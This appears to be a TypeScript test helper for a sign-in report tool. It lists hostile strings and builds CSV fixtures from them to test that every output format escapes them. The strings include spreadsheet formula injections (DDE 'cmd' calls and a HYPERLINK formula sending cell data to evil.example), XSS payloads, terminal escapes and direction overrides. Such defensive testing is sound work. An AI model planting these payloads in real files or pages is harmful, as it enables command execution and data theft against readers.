// Test helper: hostile strings (terminal escapes, direction overrides, spreadsheet formulas, Markdown and HTML
// syntax, line breaks, lone surrogates, floods) and a portal CSV export that carries them in the fields a report
// shows, for the tests that push them through every output format.

import { readFileSync } from 'node:fs';
import path from 'node:path';
import { repoRoot } from './exec.js';

/** Each a way log text has been used to attack whoever reads a report. */
export const HOSTILE_STRINGS: readonly string[] = [
  // Terminal control: colours, clearing, cursor moves, title and hyperlink escapes, bell, backspace.
  'Adele \u001b[31mVance\u001b[0m',
  '\u001b[2J\u001b[Hcleared',
  '\u001b]0;new title\u0007',
  '\u001b]8;;https://evil.example\u0007link\u001b]8;;\u0007',
  'back\bspace\b\b\bover',
  'bell\u0007bell',
  '\u009b31mC1 CSI',
  'del\u007fete',
  'nul\u0000byte',
  'escape alone \u001b',
  'form\ffeed\vtab',
  // Direction overrides, embeddings, isolates and marks: text that displays reversed or reordered.
  'admin\u202egnp.exe',
  'a\u202ab\u202bc\u202cd\u202de',
  '\u2066isolated\u2069 \u2067rtl\u2069 \u2068first\u2069',
  'mark\u200eleft\u200fright\u061carabic',
  // Line and paragraph breaks that split a table row or a stderr line.
  'Line one\nLine two',
  'carriage\rreturn',
  'crlf\r\nline',
  'unicode\u2028line\u2029paragraph',
  'next\u0085line',
  'tab\there',
  // Spreadsheet formulas, also after blanks some importers trim.
  '=HYPERLINK("https://evil.example/?q="&A1,"Open report")',
  "+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(1+1)',
  ' =1+1',
  '\t=1+1',
  '\r=1+1',
  '  @evil',
  '=cmd|"/c calc"!A1',
  // Markdown: tables, emphasis, links, images, mentions, references, HTML.
  'Docs | **bold** | `code` |',
  '[click](https://evil.example)',
  '![img](https://evil.example/x.png)',
  '@channel please look',
  '#123 issue',
  '~~strike~~ _under_',
  '$x^2$ math',
  'www.evil.example',
  'https://evil.example/path',
  '<b>bold</b>',
  '&amp; &lt;entity&gt;',
  '\\*escaped\\*',
  // HTML and script.
  '<script>alert("x")</script>',
  '<img src=x onerror=alert(1)>',
  '"><svg onload=alert(1)>',
  "'><iframe src=javascript:alert(1)>",
  '</td></tr></table><h1>x</h1>',
  'javascript:alert(1)',
  '<!-- comment -->',
  // CSV and JSON syntax.
  'comma,inside',
  'semi;colon',
  'quote"inside"',
  '"',
  '\\',
  '{"json":true}',
  '"]}',
  // Unicode oddities.
  'lone \ud800 surrogate',
  'emoji 😀 family 👨‍👩‍👧',
  'zero\u200bwidth\u200djoiner',
  '\ufeffBOM first',
  'ｆｕｌｌｗｉｄｔｈ',
  'combining e\u0301\u0301\u0301',
  // Sizes: empty-looking, blank, long.
  ' ',
  '   leading and trailing   ',
  'x'.repeat(5000),
  'word '.repeat(400),
];

/** The fields of a portal CSV row that reports show, by their column names. */
export const HOSTILE_COLUMNS = ['User', 'Username', 'Application', 'IP address', 'Location', 'Failure reason', 'Client app'] as const;

function csvField(value: string): string {
  return `"${value.replaceAll('"', '""')}"`;
}

/**
 * A portal CSV (the sample's 57 columns) with one failed sign-in per hostile string and field: that field set
 * to the string, the rest from a row of the sample. Each row has its own request id and time.
 */
export function hostilePortalCsv(strings: readonly string[] = HOSTILE_STRINGS): string {
  const sample = readFileSync(path.join(repoRoot, 'fixtures/sample/InteractiveSignIns_sample.csv'), 'utf8').replace(/^\uFEFF/, '');
  const [headerLine, templateLine] = sample.split('\n');
  const header = headerLine!.split(',');
  const template = parseSimpleCsvLine(templateLine!);
  const column = (name: string): number => {
    const index = header.indexOf(name);
    if (index < 0) throw new Error(`no column ${name}`);
    return index;
  };
  const rows: string[] = [];
  let n = 0;
  for (const name of HOSTILE_COLUMNS) {
    for (const value of strings) {
      const fields = [...template];
      fields[column('Date (UTC)')] = new Date(Date.UTC(2026, 10, 11, 0, 0, n)).toISOString();
      fields[column('Request ID')] = `00000000-0000-4000-8000-${String(n).padStart(12, '0')}`;
      fields[column('Status')] = 'Failure';
      fields[column('Sign-in error code')] = n % 2 === 0 ? '50126' : '9999999';
      fields[column(name)] = value;
      rows.push(fields.map(csvField).join(','));
      n++;
    }
  }
  return `${headerLine}\n${rows.join('\n')}\n`;
}

/**
 * The authentication details of hostilePortalCsv's sign-ins: one failed MFA step per hostile string as its method,
 * and one per string as its result text, each joined to one of those sign-ins by request ID.
 */
export function hostileAuthDetailsCsv(strings: readonly string[] = HOSTILE_STRINGS): string {
  const rows = strings.flatMap((value, n) =>
    [
      [`00000000-0000-4000-8000-${String(2 * n).padStart(12, '0')}`, value, 'MFA denied; user declined the authentication'],
      [`00000000-0000-4000-8000-${String(2 * n + 1).padStart(12, '0')}`, 'Text message', value],
    ].map(([id, method, detail]) => ['2026-11-11T00:00:00Z', id!, method!, '', 'FALSE', detail!, 'Multifactor authentication'].map(csvField).join(',')),
  );
  return `Date (UTC),Request ID,Authentication method,Authentication method detail,Succeeded,Result detail,Requirement\n${rows.join('\n')}\n`;
}

/** A line of the sample, which quotes only plain values: split on commas outside quotes. */
function parseSimpleCsvLine(line: string): string[] {
  const fields: string[] = [];
  let current = '';
  let quoted = false;
  for (let i = 0; i < line.length; i++) {
    const c = line[i]!;
    if (quoted) {
      if (c === '"' && line[i + 1] === '"') {
        current += '"';
        i++;
      } else if (c === '"') quoted = false;
      else current += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      fields.push(current);
      current = '';
    } else current += c;
  }
  fields.push(current.replace(/\r$/, ''));
  return fields;
}

/**
 * Characters that must never reach a person: C0 and C1 controls (a line break only where the format puts one),
 * direction overrides, embeddings, isolates and marks, and the Unicode line and paragraph separators.
 */
// biome-ignore lint/suspicious/noControlCharactersInRegex: these are the characters looked for
export const UNSAFE_FOR_PEOPLE = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u061c\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069]/;
